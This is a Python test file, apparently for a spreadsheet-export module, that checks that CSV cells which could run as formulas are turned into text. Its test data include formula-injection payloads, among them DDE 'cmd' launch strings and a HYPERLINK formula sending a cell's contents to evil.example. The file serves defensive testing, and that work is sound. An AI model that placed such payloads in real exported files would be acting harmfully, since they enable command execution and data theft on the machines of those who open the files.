"""A cell that a spreadsheet might run is written as text, whatever separator is used (docs/trail-format.md, 8)."""

import csv
import io
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from recordings.sheets.cells import csv_cell, csv_column, neutral

# The characters of the rule, spelled out here a second time.
F = "=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b"
UNSEEN = "".join(map(chr, [*range(9), 0xB, 0xC, *range(0xE, 0x21), *range(0x7F, 0xA1), 0xAD, 0x61C]))
UNSEEN += "".join(map(chr, [ord('"'), 0x1680, 0x180E, *range(0x2000, 0x2010), *range(0x2028, 0x2030)]))
UNSEEN += "".join(map(chr, [*range(0x205F, 0x2070), 0x3000, 0xFEFF]))
HOSTILE = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    '"=1+1',
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060=1+1",
    "\u061c=1+1",
    "\uff1d1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
]


def by_the_rule(value: str) -> str:
    """Apply the rule of the format character by character."""

    def runs(rest: str) -> bool:
        return rest.lstrip(UNSEEN)[:1] != "" and rest.lstrip(UNSEEN)[0] in F

    cell = ""
    for at, letter in enumerate(value):
        cell += letter + ("'" if letter in ";\t\r\n" and runs(value[at + 1 :]) else "")
    return f"'{cell}" if value[:1] and (value[0] in "'\t\r\n\0" or runs(value)) else cell


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_becomes_text(value: str) -> None:
    assert neutral(value).startswith("'")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("x;=1+1;y", "x;'=1+1;y"),
        ("a\t \u200b=1", "a\t' \u200b=1"),
        (";@x", ";'@x"),
        ("x\r\n=1", "x\r\n'=1"),
        ("\n=1", "'\n'=1"),
        ("a; b", "a; b"),
    ],
)
def test_so_does_one_after_a_separator(value: str, cell: str) -> None:
    assert neutral(value) == cell


@pytest.mark.parametrize(
    "value", ["", "Noa Levi", "דנה מרלו", "a=b", "1-2", "2026-11-20T09:14:22.000000Z", "مريم", "a;b", "a, b"]
)
def test_other_texts_are_unchanged(value: str) -> None:
    assert neutral(value) == value


texts = st.text() | st.text(st.sampled_from([*F, *UNSEEN, *";\t\r\n,'\"", "a", "1"]))


@given(texts)
@example("x;'=1")
def test_a_cell_follows_the_rule(value: str) -> None:
    assert neutral(value) == by_the_rule(value)


@given(texts)
def test_no_part_of_a_cell_is_a_formula_however_it_is_split(value: str) -> None:
    for part in re.split("[;\t\r\n]", csv_cell(value)):
        assert part.lstrip(UNSEEN)[:1] not in [*F]


@given(st.lists(texts, min_size=2, max_size=5))
def test_a_line_equals_a_csv_writers_and_round_trips(row: list[str]) -> None:
    out = io.StringIO(newline="")
    csv.writer(out).writerow(map(neutral, row))
    line = ",".join(map(csv_cell, row)) + "\r\n"
    assert line == out.getvalue()
    assert next(csv.reader(io.StringIO(line, newline=""))) == list(map(neutral, row))


@given(st.lists(texts | st.sampled_from(["Noa Levi", "user:7", "", "\x1f=1", "\x1f", "x;=1"]), max_size=5))
def test_a_column_equals_its_cells(column: list[str]) -> None:
    assert list(csv_column(column)) == list(map(csv_cell, column))
